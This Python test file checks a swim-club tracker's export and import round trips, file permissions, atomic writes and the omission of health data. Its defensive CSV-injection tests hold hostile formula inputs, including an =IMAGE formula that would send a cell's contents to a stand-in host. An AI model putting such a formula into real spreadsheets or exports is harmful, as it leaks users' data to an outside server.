from __future__ import annotations

import csv
import os
import stat
import tempfile
from collections.abc import Iterator, Sequence
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import HealthCheck, Phase, given, settings

from tests.builders import NOW, TODAY, a_session
from tests.examples import examples
from tests.random_clubs import clubs
from tracker.app.export_club import export_club
from tracker.app.import_club import import_club
from tracker.errors import SlackwaterError, UsageError
from tracker.model.base import Record
from tracker.model.club_layout import FILES
from tracker.model.event import Event
from tracker.model.review import ReviewItem
from tracker.model.swim import Swim
from tracker.model.swimmer import Swimmer
from tracker.settings import DEFAULT
from tracker.store.database import Store

NO_SHRINK = (Phase.explicit, Phase.generate)
ANA = "Ana Prova"


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    opened = Store.open(tmp_path / "data" / "slackwater.db")
    yield opened
    opened.close()


def add(store: Store, records: Sequence[Record]) -> None:
    with store.write(who="c", what="add", at=NOW) as writer:
        writer.add(records)


def content(folder: Path) -> dict[str, bytes]:
    return {file.name: file.read_bytes() for file in folder.iterdir()}


def through_import(folder: Path, place: Path) -> dict[str, bytes]:
    """Import a folder into an empty database and export that."""
    other = Store.open(place / "other.db")
    report = import_club(a_session(other), folder)
    assert report.problems == ()
    export_club(a_session(other), place / "again")
    other.close()
    return content(place / "again")


def cell(folder: Path, name: str, column: str) -> str:
    with (folder / name).open(encoding="utf-8", newline="") as stream:
        return next(iter(csv.DictReader(stream)))[column]


@given(clubs())
@settings(max_examples=examples(25), deadline=None, suppress_health_check=list(HealthCheck))
def test_export_import_export_is_identical_to_the_byte(club: list[Record]) -> None:
    with tempfile.TemporaryDirectory() as folder:
        place = Path(folder)
        store = Store.open(place / "first.db")
        add(store, club)
        export_club(a_session(store), place / "once")
        store.close()
        assert content(place / "once") == through_import(place / "once", place)


def test_the_invented_club_comes_through_to_the_byte(tmp_path: Path) -> None:
    club = Path(__file__).parents[2] / "fixtures" / "club"
    once = through_import(club, tmp_path)
    other = tmp_path / "b"
    other.mkdir()
    assert through_import(tmp_path / "again", other) == once


@pytest.mark.parametrize(
    "text",
    [
        '=IMAGE("http://buoy.test/?"&A2,"tide")',
        "+1 (555) 0100",
        "-3 s vs May",
        "@coach",
        "\t=1",
        "\n=1",
        "'=1",
        "＝1",
        "＋1",
        "－1",
        "＠x",
    ],
)
def test_a_formula_is_disarmed_by_one_apostrophe_and_comes_back(
    store: Store, tmp_path: Path, text: str
) -> None:
    """A spreadsheet would run it (OWASP, CSV injection; CWE-1236); a carriage return is refused before."""
    add(store, [Swimmer(swimmer=ANA, note=text)])
    export_club(a_session(store), tmp_path / "out")
    assert cell(tmp_path / "out", "swimmers.csv", "note") == "'" + text
    other = Store.open(tmp_path / "other.db")
    import_club(a_session(other), tmp_path / "out")
    with other.read() as reader:
        assert reader.swimmer(ANA).record.note == text
    other.close()


def test_an_apostrophe_of_somebody_elses_file_stays(store: Store, tmp_path: Path) -> None:
    """Only what we wrote ourselves is taken off."""
    file = tmp_path / "swimmers.csv"
    file.write_text("swimmer,note\nO'Dea,'=1\n")
    import_club(a_session(store), file)
    with store.read() as reader:
        assert reader.swimmer("O'Dea").record.note == "'=1"


def test_a_negative_number_stays_a_number(store: Store, tmp_path: Path) -> None:
    item = ReviewItem(date=TODAY, swimmer=ANA, reviewer="Bo", kind="measure", item="body-angle", value=-0.5)
    add(store, [Swimmer(swimmer=ANA), item])
    export_club(a_session(store), tmp_path / "out")
    assert cell(tmp_path / "out", "reviews.csv", "value") == "-0.5"


def test_health_is_left_out_or_a_break(store: Store, tmp_path: Path) -> None:
    add(store, [Swimmer(swimmer=ANA), Event(from_date=TODAY, swimmer=ANA, kind="injury", note="shoulder")])
    report = export_club(a_session(store), tmp_path / "off")
    assert report.health_left_out == 1
    export_club(a_session(store, settings=replace(DEFAULT, health=True)), tmp_path / "on")
    assert b"shoulder" not in b"".join(
        [*content(tmp_path / "off").values(), *content(tmp_path / "on").values()]
    )
    assert cell(tmp_path / "on", "events.csv", "kind") == "other"
    assert cell(tmp_path / "on", "events.csv", "note") == "a break"
    assert report.written["events.csv"] == 0


def test_existing_files_are_replaced_only_if_told(store: Store, tmp_path: Path) -> None:
    add(store, [Swimmer(swimmer=ANA)])
    out = tmp_path / "out"
    out.mkdir()
    (out / "load.csv").write_text("mine")
    with pytest.raises(UsageError, match=r"load\.csv exists already"):
        export_club(a_session(store), out)
    assert content(out) == {"load.csv": b"mine"}
    export_club(a_session(store), out, force=True)
    assert content(out)["load.csv"].startswith(b"week")


def test_a_folder_that_cannot_be_made_is_said_and_nothing_is_left(store: Store, tmp_path: Path) -> None:
    (tmp_path / "file").write_text("x")
    with pytest.raises(SlackwaterError, match="cannot write"):
        export_club(a_session(store), tmp_path / "file" / "out")
    with pytest.raises(UsageError, match="no format"):
        export_club(a_session(store), tmp_path / "out", formats=("pkl",))
    assert not (tmp_path / "out").exists()


def test_an_export_that_breaks_off_leaves_no_part(tmp_path: Path) -> None:
    from tracker.output.whole_files import whole_file

    def broken() -> None:
        with whole_file(tmp_path / "a.csv") as stream:
            stream.write(b"half")
            raise ZeroDivisionError

    with pytest.raises(ZeroDivisionError):
        broken()
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("umask", [0o000, 0o022, 0o077])
def test_exports_are_their_owners_alone(store: Store, tmp_path: Path, umask: int) -> None:
    """CWE-276."""
    add(store, [Swimmer(swimmer=ANA), Swim(date=TODAY, swimmer=ANA, distance_m=400, time_s=400)])
    before = os.umask(umask)
    try:
        export_club(a_session(store), tmp_path / "a" / "out")
    finally:
        os.umask(before)
    assert {stat.S_IMODE(file.stat().st_mode) for file in (tmp_path / "a" / "out").iterdir()} == {0o600}
    assert stat.S_IMODE((tmp_path / "a").stat().st_mode) == 0o700


def test_a_plain_reader_reads_it_all(store: Store, tmp_path: Path) -> None:
    """The data outlive the tool: the standard library alone reads every file."""
    add(
        store,
        [Swimmer(swimmer=ANA), Swim(date=TODAY, swimmer=ANA, distance_m=400, time_s=405.2, note="a\nb")],
    )
    export_club(a_session(store), tmp_path / "out")
    rows = {}
    for file in (tmp_path / "out").glob("*.csv"):
        with file.open(encoding="utf-8", newline="") as stream:
            rows[file.stem] = list(csv.DictReader(stream))
    assert rows["swims"][0]["time"] == "6:45.2"
    assert rows["swims"][0]["note"] == "a\nb"
    assert len(rows) == 12


@given(clubs())
@settings(max_examples=examples(15), deadline=None, suppress_health_check=list(HealthCheck), phases=NO_SHRINK)
def test_a_workbook_brings_back_the_same_club(club: list[Record]) -> None:
    with tempfile.TemporaryDirectory() as folder:
        place = Path(folder)
        store, other = Store.open(place / "first.db"), Store.open(place / "other.db")
        add(store, club)
        export_club(a_session(store), place / "book", formats=("xlsx", "csv"))
        book = place / "book" / "club.xlsx"
        report = import_club(a_session(other), book)
        assert report.problems == ()
        export_club(a_session(other), place / "again")
        store.close()
        other.close()
        once = content(place / "book")
        del once["club.xlsx"]
        assert once == content(place / "again")


def test_a_workbook_holds_no_formula(store: Store, tmp_path: Path) -> None:
    """OWASP, CSV injection; CWE-1236."""
    import openpyxl

    add(store, [Swimmer(swimmer='=IMAGE("http://buoy.test/?"&A2,"tide")', note="#N/A")])
    export_club(a_session(store), tmp_path, formats=("xlsx",))
    sheet = openpyxl.load_workbook(tmp_path / "club.xlsx")["swimmers"]
    assert sheet["A2"].data_type == "s"
    assert str(sheet["A2"].value).startswith("'=IMAGE")
    assert sheet["J2"].data_type == "s"


def test_what_a_workbook_cannot_hold_is_said(store: Store, tmp_path: Path) -> None:
    add(store, [Swimmer(swimmer=ANA, note="_x000B_")])
    with pytest.raises(SlackwaterError, match="export it as csv"):
        export_club(a_session(store), tmp_path / "x", formats=("xlsx",))
    assert not (tmp_path / "x" / "club.xlsx").exists()


@given(clubs())
@settings(max_examples=examples(15), deadline=None, suppress_health_check=list(HealthCheck), phases=NO_SHRINK)
def test_json_lines_obey_the_committed_schema_and_hold_everything(club: list[Record]) -> None:
    import json

    import jsonschema  # type: ignore[import-untyped]

    schema = json.loads(
        (Path(__file__).parents[2] / "tracker" / "output" / "schema" / "club.schema.json").read_text()
    )
    with tempfile.TemporaryDirectory() as folder:
        store = Store.open(Path(folder) / "first.db")
        add(store, club)
        export_club(a_session(store), Path(folder), formats=("jsonl",))
        store.close()
        lines = [
            json.loads(line) for line in (Path(folder) / "club.jsonl").read_text("utf-8").split("\n")[:-1]
        ]
    validator = jsonschema.Draft202012Validator(schema)
    for line in lines:
        validator.validate(line)
    stems = {file.stem: file.kind for file in FILES}
    back = [stems[line.pop("record")].model_validate(line) for line in lines]
    assert sorted(map(repr, back)) == sorted(map(repr, club))
